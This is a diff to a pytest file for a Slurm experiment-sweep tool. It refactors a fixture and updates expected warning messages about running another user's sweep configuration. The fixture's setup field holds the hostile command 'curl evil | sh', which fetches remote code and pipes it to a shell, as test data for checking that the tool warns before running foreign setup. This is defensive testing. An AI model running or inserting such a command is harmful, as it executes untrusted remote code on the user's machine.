@@ -15,8 +15,7 @@ from blip2sweep.commands.run import begun, name_in_use
 from blip2sweep.commands.sweeps import relaunch, retry
 from blip2sweep.commands.table import show_table
 from blip2sweep.errors import UserError
-from blip2sweep.files import write_json
-from blip2sweep.planning.packs import pack_path
+from blip2sweep.planning.packs import pack_path, write_packs
 from blip2sweep.results.collect import collect, is_current
 from blip2sweep.results.ledger import Journal
 from blip2sweep.results.sweeps import Submission, Sweep, find_sweep
@@ -84,18 +83,12 @@ def test_a_sweeper_that_launches_its_sweep_again_extends_it(tmp_path: Path) -> N
 def other(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     """A sweep that another user launched on Slurm, of which nothing lives."""
     launcher = {"setup": ["curl evil | sh"], "srun_args": [], "timeout_min": 5}
-    keys = [j["key"] for j in jobs("task=shapes_vqa", "quant.bits=2")]
+    made = jobs("task=shapes_vqa", "quant.bits=2")
+    keys = [j["key"] for j in made]
     sweep = Sweep("s", "c", 1.0, keys, keys[:1], settings={"runner": "their.module:Runner"},
                   submissions=[Submission("r", "slurm", launcher, 1, [{"job": "1", "first": 0, "count": 1}], cancelled=1.0)])  # fmt: skip
     sweep.write(tmp_path)
-    write_json(
-        pack_path(sweep.folder(tmp_path), "r", 0),
-        {
-            "cells": [{"key": k, "model": 0, "task": 0, "columns": {}, "recipe": []} for k in keys],
-            "models": [0],
-            "tasks": [0],
-        },
-    )
+    write_packs([made], sweep.folder(tmp_path), "s", "r", tmp_path, {})
     monkeypatch.setattr("blip2sweep.running.queue.squeue", lambda *_: ([], True))
     monkeypatch.setattr("blip2sweep.commands.sweeps.relaunch", lambda *_: False)
     return tmp_path
@@ -110,7 +103,7 @@ def test_retry_says_what_it_runs(
     told = capsys.readouterr().err
     assert "running 2 cells again" in told
     assert (
-        "this runs what that folder says, as you: setup: ['curl evil | sh'], runner: 'their.module:Runner'" in told
+        "this runs what that folder says, as you: setup: ['curl evil | sh'], backend: 'their.module:Runner'" in told
     ) != mine
 
 
@@ -139,7 +132,7 @@ def test_rescore_says_whose_sweeps_they_are(
     assert "setup" not in capsys.readouterr().err
     monkeypatch.setattr(theirs.os, "geteuid", lambda: os.getuid() + 1)
     rescore(tmp_path)
-    assert "runs none of their setup and runner" in capsys.readouterr().err
+    assert "runs none of their setup and back end" in capsys.readouterr().err
 
 
 # ---- tables
